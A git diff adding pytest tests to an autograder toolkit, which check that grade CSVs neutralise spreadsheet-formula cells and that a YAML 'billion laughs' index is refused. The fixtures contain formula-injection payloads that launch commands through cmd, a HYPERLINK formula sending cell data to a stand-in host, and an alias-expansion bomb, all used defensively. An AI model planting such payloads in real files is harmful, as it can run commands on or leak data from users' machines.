@@ -22,7 +22,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from autograder import batch, config, runner
+from autograder import batch, config, rubric, runner
 from autograder.sandbox import jail
 
 from conftest import PATH, ROOT, orphans, pool_uids, run_cli
@@ -30,6 +30,7 @@ from conftest import PATH, ROOT, orphans, pool_uids, run_cli
 EXPORT = ROOT / "tests" / "fixtures" / "gradescope_export" / "submission_metadata.yml"
 EXEMPLAR = ROOT / "solutions" / "song_contest" / "responses.md"
 SONG = config.load("song_contest")
+MANUAL = rubric.manual_items(SONG)  # the manual columns of `rubric --merge`'s CSV
 
 
 def read_rows(path: Path) -> list[dict]:
@@ -128,6 +129,96 @@ def test_unknown_submitters_get_one_row_and_a_failure_is_an_error_row():
     rows = batch.grade_rows("s3", "grading took longer than 900 s", PAIR)
     assert [(r["student"], r["score"], r["error"]) for r in rows] == [
         ("Pat", "", "grading took longer than 900 s"), ("Sam", "", "grading took longer than 900 s")]
+
+
+# -- what a submission says reaches the instructor's spreadsheet and YAML parser --------------
+FOLDER = "=1+1+cmd|' -c calc'!A0"  # a submission's folder name (no slash in it)
+LINK = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
+SUBMITTERS = [{":name": LINK, ":email": "@SUM(1+1)*cmd|' /C calc'!A0"},
+              {":name": "-2+3+cmd|' /C calc'!A0", ":email": "pair@x.edu"}]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formulas(path: Path) -> list[str]:
+    """The cells of a CSV file that a spreadsheet would read as a formula (a number such as
+    -5.0 is none)."""
+    with open(path, newline="", encoding="utf-8") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    return [cell for cell in cells if cell.startswith(FORMULA_START)
+            and not re.fullmatch(r"[-+]?[0-9.]+", cell)]
+
+
+def test_no_cell_of_grades_csv_or_of_the_merge_is_a_formula(tmp_path, monkeypatch):
+    """Folder names, submitters, what a results.json holds and a failed grading's last line
+    come from outside: a cell that starts like a formula starts with a quote instead; the
+    toolkit's numbers (a score of -5) stay numbers."""
+    source, out = tmp_path / "export", tmp_path / "out"
+    for sid in (FOLDER, "submission_2"):
+        (source / sid).mkdir(parents=True)
+        (source / sid / "responses.md").write_text("An answer.\n")
+    (source / "submission_metadata.yml").write_text(yaml.safe_dump({
+        FOLDER: {":submitters": SUBMITTERS}, "submission_2": {":submitters": SUBMITTERS[1:]}}))
+
+    def grade(settings, folder, metadata_path, target):
+        if folder.name == "submission_2":
+            return "=2+2 said the grading's last line"
+        document = {"score": -5.0, "tests": [
+            {"name": "q1", "score": -5.0, "max_score": 10.0, "status": "failed",
+             "tags": ["-1+1"], "output": "=3+3"}],
+            "extra_data": {"assignment": "song_contest"}}
+        target.write_text(json.dumps(document))
+        return document
+
+    monkeypatch.setattr(batch, "grade_folder", grade)
+    batch.grade_all(SONG, source, out)
+    assert formulas(out / "grades.csv") == []
+    rows = read_rows(out / "grades.csv")
+    assert [(r["submission"], r["student"], r["email"], r["score"]) for r in rows] == [
+        (f"'{FOLDER}", f"'{LINK}", "'@SUM(1+1)*cmd|' /C calc'!A0", "-5.0"),
+        (f"'{FOLDER}", "'-2+3+cmd|' /C calc'!A0", "pair@x.edu", "-5.0"),
+        ("submission_2", "'-2+3+cmd|' /C calc'!A0", "pair@x.edu", "")]
+    assert rows[0]["'-1+1"] == "-5.0" and rows[2]["error"] == "'=2+2 said the grading's last line"
+
+    manual = tmp_path / "manual.csv"
+    with open(manual, "w", newline="") as f:
+        writer = csv.DictWriter(f, ["submission", *MANUAL])
+        writer.writeheader()
+        writer.writerow({"submission": FOLDER, **dict.fromkeys(MANUAL, 0)})
+    final = tmp_path / "final_grades.csv"
+    assert rubric.merge(SONG, manual, out, final) == []
+    assert formulas(final) == []
+    (row,) = read_rows(final)
+    assert (row["submission"], row["students"], row["emails"], row["auto"]) == (
+        f"'{FOLDER}", f"'{LINK}; -2+3+cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0; pair@x.edu", "-5.0")
+
+
+def test_an_export_index_of_nested_aliases_is_refused_at_once(tmp_path):
+    """Nine levels of ten aliases ("billion laughs") stand for 10**9 names once the index is
+    walked: the index is refused in one line, before anything is graded."""
+    source = tmp_path / "export"
+    (source / "submission_1").mkdir(parents=True)
+    laughs = ["l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
+    laughs += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]" for i in range(1, 9)]
+    (source / "submission_metadata.yml").write_text(
+        "\n".join(laughs) + "\nsubmission_1: {':submitters': *l8}\n")
+    start = time.monotonic()
+    done = run_cli("grade-batch", "song_contest", str(source), "--out", str(tmp_path / "out"),
+                   check=False, timeout=60)
+    assert time.monotonic() - start < 30
+    assert (done.returncode, done.stderr) == (2, "autograder: error: submission_metadata.yml: its "
+                                                 "aliases (*name) expand it by more than 100000 "
+                                                 "entries\n")
+    assert not (tmp_path / "out" / "grades.csv").exists()
+
+
+def test_an_export_index_that_is_no_mapping_of_folders_is_one_error(tmp_path):
+    (tmp_path / "submission_1").mkdir()
+    for text in ("- a list\n", "submission_1: just a name\n"):
+        (tmp_path / "submission_metadata.yml").write_text(text)
+        with pytest.raises(config.ConfigError, match="^submission_metadata.yml: not Gradescope's "
+                                                     "export index"):
+            batch.discover(tmp_path, tmp_path / "work")
 
 
 # -- resumable -------------------------------------------------------------------------------
